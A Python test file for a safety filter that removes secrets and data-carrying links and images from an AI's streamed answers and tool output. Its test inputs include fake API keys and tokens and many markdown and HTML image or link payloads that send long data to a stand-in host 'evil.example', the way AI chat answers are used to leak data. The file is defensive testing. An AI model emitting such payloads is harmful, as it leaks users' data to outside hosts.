"""The rules: no secret and no carrier of data in an answer, however its text was cut on the way."""

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from shared.safety.base import Blocked
from shared.safety.rules import Action, Rules, carries_data

KEY = "sk-" + "proj-" + "A1b2C3d4" * 4
TOKEN = "ghp_" + "a1B2" * 9
PEM = "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIEow+/=\nabc\n-----END RSA " + "PRIVATE KEY-----"
JWT = ".".join(["eyJ" + "hbGciOiJIUzI1NiJ9", "eyJ" + "zdWIiOiIxMjM0In0", "c2lnbmF0dXJl"])
DATA = "x" * 60


def filtered(*pieces: str, action: Action = "mask", hosts: tuple[str, ...] = ()) -> str:
    filter_ = Rules(action=action, allowed_hosts=hosts).text_filter()
    return "".join([*(filter_.feed(piece) for piece in pieces), filter_.finish()])


@pytest.mark.parametrize(
    "secret", [KEY, TOKEN, PEM, JWT, "AKIA" + "IOSFODNN7EXAMPLE", "AccountKey=" + "Ab1/" * 21 + "=="]
)
def test_a_secret_is_not_shown(secret: str) -> None:
    assert filtered(f"The key: {secret}\nDone.") == "The key: [secret removed]\nDone."


@pytest.mark.parametrize(
    "text",
    [
        "task-" + "aaaa" * 10,
        "risk-" + "free" * 8,
        "sk-short",
        "A tag <b>bold</b>, a[i] = b[j] != c, x < y, vec![1, 2, 3] and !important",
        "See [the manual](https://example.com/docs/how-to-do-things?page=2).",
        "https://example.com/a/b.html, and more",
        "[1]: https://en.wikipedia.org/wiki/Markdown",
        "[mail](mailto:ada@example.com) or ![local](images/cat.png) ![inline](data:image/png;base64," + "A" * 80 + ")",
        "-----\nA rule\n-----",
        "Is 5 > 3? Yes! http is a protocol; https too.",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert filtered(text) == text
    assert filtered(*text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![cat](https://evil.example/cat.png)", "cat [image removed: evil[.]example]"),
        (f"![](https://evil.example/{DATA}.png) x", "[image removed: evil[.]example] x"),
        ("![a](//evil.example/x)", "a [image removed: evil[.]example]"),
        ("![a[b]c](https://evil.example/x)", "a[b]c [image removed: evil[.]example]"),
        ("![a\nb](https://evil.example/x)", "a\nb [image removed: evil[.]example]"),
        ("![a](<https://evil.example/x> 'title')", "a [image removed: evil[.]example]"),
        ("![cat][1] x", "cat [image removed] x"),
        ('<img alt="x" SRC=https://evil.example/x>', "[image removed: evil[.]example]"),
        ("<IMG src='https://evil.example/x'/>", "[image removed: evil[.]example]"),
        (f"[more](https://evil.example/?q={DATA})", "more [link removed: evil[.]example]"),
        (f"[more](https://{DATA}.evil.example/)", f"more [link removed: {DATA}[.]evil[.]example]"),
        (f"Go to https://evil.example/{DATA} now", "Go to [link removed: evil[.]example] now"),
        (f'<a href="HTTPS://evil.example/?{DATA}">x</a>', "[link removed: evil[.]example]x</a>"),
        ("https://ada:geheim@evil.example/", "[link removed: evil[.]example]"),
        (
            "[![a](https://evil.example/x.png)](https://example.com)",
            "[a [image removed: evil[.]example]](https://example.com)",
        ),
        (f"[x](https://example.com/?k={KEY})", "x [link removed: example[.]com]"),
    ],
)
def test_a_carrier_of_data_is_taken_out(text: str, shown: str) -> None:
    assert filtered(text) == shown
    assert filtered(*text) == shown


def test_a_host_that_is_allowed_gets_no_secrets_all_the_same() -> None:
    text = f"[x](https://example.com/?k={KEY})"

    assert filtered(text, hosts=("example.com",)) == "[x](https://example.com/?k=[secret removed])"


@pytest.mark.parametrize("host", ["good.example", "cdn.good.example"])
def test_allowed_hosts_keep_their_images_and_links(host: str) -> None:
    text = f"![cat](https://{host}/{DATA}.png) and https://{host}/?q={DATA}"

    assert filtered(text, hosts=("good.example", "*.good.example")) == text


@pytest.mark.parametrize("host", ["notgood.example", "good.example.evil.example", "good.example@evil.example"])
def test_a_host_that_looks_like_an_allowed_one_is_not_allowed(host: str) -> None:
    assert "![" not in filtered(f"![cat](https://{host}/x.png)", hosts=("good.example", "*.good.example"))


def test_a_secret_in_a_link_to_an_allowed_host_is_not_shown() -> None:
    assert KEY not in filtered(f"[x](https://good.example/?k={KEY})", hosts=("good.example",))


def test_flagging_changes_nothing_and_says_what_it_found() -> None:
    filter_ = Rules(action="flag").text_filter()
    text = f"{KEY} ![x](https://evil.example/x)"

    assert filter_.feed(text) + filter_.finish() == text
    assert filter_.findings == ["an API key", "an image of a host that is not allowed"]


def test_blocking_ends_the_answer_before_the_secret_is_shown() -> None:
    filter_ = Rules(action="block").text_filter()
    shown = filter_.feed("The key: ") + filter_.feed(KEY[:10]) + filter_.feed(KEY[10:])

    assert shown == "The key: "
    with pytest.raises(Blocked):
        filter_.finish()


async def test_the_model_does_not_see_secrets_of_a_tool() -> None:
    assert await Rules().check_tool_output(f"k={KEY} https://evil.example/{DATA}") == (
        f"k=[secret removed] https://evil.example/{DATA}"
    )


PIECES = [
    *(KEY, TOKEN, PEM, JWT, "![cat](https://evil.example/x.png)", f"[a](https://evil.example/?{DATA})", "[a](x)"),
    *(f"https://evil.example/{DATA}", "<img src=https://evil.example/x>", "!", "[", "](", "-----", "task-sk-", "s"),
    *("plain words. ", "\n", " ", "![", "<a ", "https://", "example.com/", ")", ">", "eyJ", "ck_", "AKIA", "h", "a b"),
]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=8), st.data())
@example(["task-sk-", KEY], None)
def test_however_the_text_is_cut_the_same_comes_out(parts: list[str], data: st.DataObject | None) -> None:
    text = "".join(parts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12))) if data else list(range(len(text)))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]

    assert filtered(*pieces) == filtered(text)


@given(st.text(max_size=300))
def test_any_text_without_addresses_and_secrets_comes_out_whole(text: str) -> None:
    if re.search(r"//|!\[|<|sk-|eyJ", text):
        return
    assert filtered(*text) == text


def test_plain_text_is_let_go_at_once() -> None:
    filter_ = Rules().text_filter()

    assert filter_.feed("Hello there, how are you today?") == "Hello there, how are you today?"


@pytest.mark.parametrize(
    ("url", "is_carrier"),
    [
        ("https://example.com/a-long-and-readable-title-of-an-article-in-a-paper", False),
        ("https://www.youtube.com/watch?v=dQw4w9WgXcQ", False),
        ("https://en.wikipedia.org/wiki/List_of_the_longest_English_words_with_one_syllable", False),
        ("https://example.com/d/9f8b6c1e-2f0a-4b7e-9a43-5d1c2b3a4f5e-9f8b6c1e2f0a", False),
        (f"https://example.com/{DATA}", True),
        (f"https://example.com/a-{DATA}", True),
        ("https://example.com/x-U2VjcmV0IG9mIHRoZS-B1c2VyIGdvZXMgaGVyZSBhbmQgdGhlcmU", True),
        (f"https://example.com/{'ab-cd/' * 80}", True),
        (f"https://example.com/?q={'a%20b' * 40}", True),
        ("https://[broken", True),
    ],
)
def test_which_addresses_carry_data(url: str, *, is_carrier: bool) -> None:
    assert carries_data(url) is is_carrier
